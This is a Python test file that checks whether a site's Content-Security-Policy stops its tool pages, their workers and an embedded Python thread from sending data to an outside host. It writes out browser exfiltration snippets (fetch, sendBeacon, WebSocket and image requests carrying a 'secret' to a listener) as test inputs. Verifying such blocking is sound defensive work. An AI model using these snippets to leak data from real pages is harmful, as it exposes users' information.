"""Pages with a tool send nothing out: neither the page, nor a worker of it, nor Python."""

import http.server
import re
import threading

import pytest
from surveying import RUSSIAN, TOOLS, Survey, with_python
from visits import PROMPT, Visit

from softpower.site.browser import policy

pytestmark = with_python

SEND = {
    "fetch": "await fetch('http://{host}/?secret', {{mode: 'no-cors'}})",
    "beacon": "if (!navigator.sendBeacon('http://{host}/?secret', 'secret')) throw new Error('refused')",
    "socket": "await new Promise((yes, no) => {{ const s = new WebSocket('ws://{host}/'); s.onopen = yes; s.onerror = () => no(new Error('refused')); }})",
    "picture": "await new Promise((yes, no) => {{ const i = new Image(); i.onload = yes; i.onerror = () => no(new Error('refused')); i.src = 'http://{host}/?secret'; }})",
}
WORKER = """async ([code, base]) => {
  const source = `const BASE = '${base}'; onmessage = async () => { try { ${code}; postMessage('sent'); } catch (e) { postMessage('refused'); } };`;
  const worker = new Worker(URL.createObjectURL(new Blob([source], {type: 'text/javascript'})));
  return new Promise(done => { worker.onmessage = event => done(event.data); worker.postMessage(1); });
}"""


@pytest.mark.parametrize("way", SEND)
@pytest.mark.parametrize("page_name", TOOLS)
def test_nothing_can_be_sent_out(browser, site, served, other_host, page_name, way):
    """From the page, and from a worker that is started as Python's is; the other host does listen."""
    visit = Visit(browser.new_context(), site, served, page_name, scroll=False)
    code = SEND[way].format(host=other_host.address)
    tried = f"async () => {{ try {{ {code}; return 'sent'; }} catch (fault) {{ return 'refused'; }} }}"
    assert (
        visit.page.evaluate(tried) == "refused" or way == "beacon"
    )  # a beacon is accepted, and then not sent
    if way in ("fetch", "socket"):
        assert visit.page.evaluate(WORKER, [code, served]) == "refused"
    visit.page.wait_for_timeout(200)
    assert other_host.heard == []


def test_the_same_is_sent_where_no_policy_forbids_it(browser, site, served, other_host):
    """The test above can fail: another page of the book has no such policy, and the host hears it."""
    visit = Visit(browser.new_context(), site, served, "chapters/your-own-survey.html", scroll=False)
    visit.page.evaluate(f"async () => {{ {SEND['fetch'].format(host=other_host.address)} }}")
    assert other_host.heard


def test_pythons_own_thread_cannot_send(browser, site, served, other_host):
    survey = Survey(browser, site, served, RUSSIAN)
    [worker] = survey.page.workers
    for asked in (
        f"fetch('http://{other_host.address}/')",
        f"plain('http://{other_host.address}/', {{mode: 'no-cors'}})",
    ):
        assert (
            worker.evaluate(
                f"async () => {{ try {{ await {asked}; return 'sent'; }} catch (fault) {{ return 'refused'; }} }}"
            )
            == "refused"
        )
    assert other_host.heard == []


@pytest.fixture
def other_host():
    class Listening(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.server.heard.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    server.heard, server.address = [], f"127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, args=(PROMPT,), daemon=True).start()
    yield server
    server.shutdown()


def test_the_policy_allows_no_script_but_the_pages_own(site):
    for name in TOOLS:
        page = (site / name).read_text("utf-8")
        [found] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page)
        assert found == policy.text(page)
        parts = dict(part.split(" ", 1) for part in found.split("; "))
        assert (
            parts["default-src"] == "'none'"
            and parts["connect-src"] == "'self'"
            and parts["worker-src"] == "blob:"
        )
        assert "'unsafe-inline'" not in parts["script-src"] and "http" not in found
        assert page.index("Content-Security-Policy") < page.index("<script")
